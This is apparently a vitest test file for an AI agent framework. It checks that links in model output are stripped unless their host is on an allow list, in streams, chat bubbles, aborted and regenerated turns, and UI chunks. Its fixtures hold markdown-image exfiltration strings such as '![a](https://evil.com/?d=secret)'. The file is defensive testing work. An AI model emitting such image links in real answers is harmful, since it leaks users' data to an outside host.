import { describe, expect, test } from "vitest"
import { deliverTurn } from "../../../src/apps/bots/deliver-turn.ts"
import { keptMessageChunks, uiMessageChunks } from "../../../src/apps/server/ui-message-stream.ts"
import { createInMemoryStore } from "../../../src/memory/services/store/in-memory/in-memory-store.ts"
import { scriptedModel } from "../../../src/testing/index.ts"
import { collect, testAgent } from "../../support/agents.ts"

const answer = "![a](https://evil.com/?d=secret) and [b](https://ok.com/) @br Bye: https://evil.com/x"
const bothLeft = "a and [b](https://ok.com/)"

/** A session whose model answers so, in small pieces, each time that it is asked. */
function answering(output: object, { thought = "", times = 1 } = {}) {
  const store = createInMemoryStore()
  const pieces = (answer.match(/[\s\S]{1,3}/g) ?? []).map((delta) => ({ type: "text-delta" as const, delta }))
  const thinking = thought ? [{ type: "thinking-delta" as const, delta: thought }] : []
  const model = scriptedModel(Array.from({ length: times }, () => [...thinking, ...pieces]))
  const settings = { loop: { mode: "chat" as const }, output: { bubbles: true, ...output }, memory: { enabled: false } }
  const { session } = testAgent(model, settings, { store })
  const kept = async () => (await store.load(session.key))?.history.findLast(({ role }) => role === "assistant")?.text
  return { session, kept }
}

async function all(chunks: AsyncIterable<unknown>): Promise<unknown[]> {
  const read: unknown[] = []
  for await (const chunk of chunks) read.push(chunk)
  return read
}

describe("T47 [output] links of a profile", () => {
  test("hold for what is streamed, told as bubbles, returned and kept, and a warning tells the host", async () => {
    const { session, kept } = answering({ links: ["ok.com"] })
    const turn = session.send("hi")
    const events = await collect(turn)
    const result = await turn.result
    const streamed = events.flatMap((event) => (event.type === "text-delta" ? [event.delta] : [])).join("")
    expect(streamed).toBe(`${bothLeft} \n\n Bye: …`)
    expect(result.ok && result.text).toBe(streamed)
    expect(events.flatMap((event) => (event.type === "bubble" ? [event.text] : []))).toEqual([`${bothLeft} `, " Bye: …"])
    expect(await kept()).toBe(`${bothLeft} @br Bye: …`)
    expect(
      result.trace.warnings.map(({ kind, message }) => [kind, message.includes("evil.com"), message.includes("secret")]),
    ).toEqual([
      ["links", true, false],
      ["links", true, false],
    ])
  })

  test("hold for what was shown of an aborted answer", async () => {
    const store = createInMemoryStore()
    const model = scriptedModel([["Look: ![a](https://evil.com/?d=secret) and https://ev", { stallUntilAborted: true }]])
    const { session } = testAgent(model, { loop: { mode: "chat" }, output: { links: [] } }, { store })
    const turn = session.send("hi")
    for await (const _ of turn.textStream) turn.abort()
    const result = await turn.result
    expect(!result.ok && result.gathered.text).toBe("Look: a and …")
    expect((await session.history()).at(-1)).toMatchObject({ role: "assistant", text: "Look: a and …", interrupted: true })
  })

  test("hold for another answer to the same words", async () => {
    const { session, kept } = answering({ links: [] }, { times: 2 })
    await session.send("hi").result
    const again = await session.regenerate().result
    expect(again.ok ? again.text : again.error).toBe("a and b \n\n Bye: …")
    expect(await kept()).toBe("a and b @br Bye: …")
  })

  test.each([{}, { links: ["*"] }])("leave all as it is with %j", async (output) => {
    const { session, kept } = answering(output)
    const result = await session.send("hi").result
    expect(result.ok && result.text).toBe(answer.replace("@br", "\n\n"))
    expect(await kept()).toBe(answer)
    expect(result.trace.warnings).toEqual([])
  })

  test("are hosts: a URL and an empty string are mistakes", () => {
    expect(() => answering({ links: ["https://ok.com/"] })).toThrow(/output\.links.*expected a host/s)
    expect(() => answering({ links: "ok.com" })).toThrow(/output\.links.*expected an array of hosts/s)
  })
})

describe("T48 chats and pages", () => {
  const delivered = async (output: object) => {
    const { session, kept } = answering(output)
    const sent: string[] = []
    const result = await deliverTurn(session.send("hi"), { limit: 1_000, sendText: (text) => void sent.push(text) })
    return { sent, result, kept: await kept() }
  }

  test("a chat gets no link of a profile that names no hosts; history has the model's words, and the trace a warning", async () => {
    const { sent, result, kept } = await delivered({})
    expect(sent).toEqual(["a and b", " Bye: …"])
    expect(kept).toBe(answer)
    expect(result).toMatchObject({ ok: true, text: "a and b \n\n Bye: …" })
    expect(result.trace.warnings.map(({ kind }) => kind)).toEqual(["links", "links"])
  })

  test("a chat gets the links that the profile names, or all", async () => {
    expect((await delivered({ links: ["ok.com"] })).sent).toEqual([bothLeft, " Bye: …"])
    expect((await delivered({ links: ["*"] })).sent.join(" ")).toContain("https://evil.com/?d=secret")
  })

  test("a page gets no other link, in thoughts neither, nor from an answer that was kept", async () => {
    const { session } = answering({}, { thought: "![x](https://evil.com/?t=secret) hm" })
    const chunks = JSON.stringify(await all(uiMessageChunks(session.send("hi"))))
    expect(chunks).not.toMatch(/https|evil/)
    expect(chunks).toMatch(/"delta":"x ".*"delta":"hm"/)
    const from = { locale: "en", bytesOf: async () => undefined }
    const told = async (links: readonly string[] | undefined) =>
      JSON.stringify(await all(keptMessageChunks("1", [{ text: answer }], { ...from, links })))
    expect(await told(undefined)).not.toMatch(/https/)
    expect(await told(["ok.com"])).toContain("https://ok.com/")
  })
})
